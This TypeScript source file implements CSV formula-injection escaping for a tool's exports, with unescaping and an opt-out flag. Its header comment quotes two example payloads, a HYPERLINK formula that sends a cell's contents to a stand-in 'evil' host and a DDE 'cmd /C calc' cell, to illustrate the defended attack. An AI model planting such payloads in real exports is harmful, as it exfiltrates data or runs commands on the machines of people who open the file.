/**
 * Spreadsheet formula injection (OWASP "CSV injection"): Excel, LibreOffice and Google Sheets read a CSV
 * cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula, so a customer named
 * `=HYPERLINK("http://evil/?"&A1,"x")` or a phone `+1+cmd|' /C calc'!A0` runs when the export is opened.
 *
 * The rule: such a cell is written with a leading `'`, which makes it text. Left as it is, because it cannot
 * call a function, reference a cell or reach DDE, is a cell of only digits, spaces and `+ - ( ) .` that
 * starts with `+` or `-`: numbers such as `-5` or `-12.50` and phone numbers such as `+86 10 1234 5678` or
 * `+1 (555) 123-4567` stay readable. A value that already starts with `'` before such a character gets one
 * more, so `unescapeFormula` gives back exactly what was written.
 */
const FORMULA_START = /^'*[=+\-@\t\r]/;
const ARITHMETIC_ONLY = /^[+-][0-9 ()+.-]*$/;
const ESCAPED = /^'+[=+\-@\t\r]/;

/** Whether a cell's first character can start a formula or is a quote (a quick test for the common case). */
function mayNeedEscape(value: string): boolean {
  switch (value.charCodeAt(0)) {
    case 0x3d: // =
    case 0x2b: // +
    case 0x2d: // -
    case 0x40: // @
    case 0x09: // tab
    case 0x0d: // carriage return
    case 0x27: // '
      return true;
    default:
      return false;
  }
}

/** The cell as a spreadsheet will show it as text (see the rule above). */
export function escapeFormula(value: string): string {
  return mayNeedEscape(value) && FORMULA_START.test(value) && !ARITHMETIC_ONLY.test(value) ? `'${value}` : value;
}

/** Reverses `escapeFormula`, for files custcode reads back (the migration crosswalk). */
export function unescapeFormula(value: string): string {
  return value.charCodeAt(0) === 0x27 && ESCAPED.test(value) ? value.slice(1) : value;
}

/** Options of every CSV custcode writes. */
export interface CsvCellOptions {
  /**
   * Prefix cells that a spreadsheet would run as a formula with `'` (default true). Turn it off for
   * programs that read the file, not people: CLI `--no-escape-formulas`, API `escapeFormulas=false`.
   */
  escapeFormulas?: boolean;
}

/** The cell writer for these options: `escapeFormula`, or the value unchanged when escaping is off. */
export function cellGuard(options: CsvCellOptions = {}): (value: string) => string {
  return options.escapeFormulas === false ? (value) => value : escapeFormula;
}
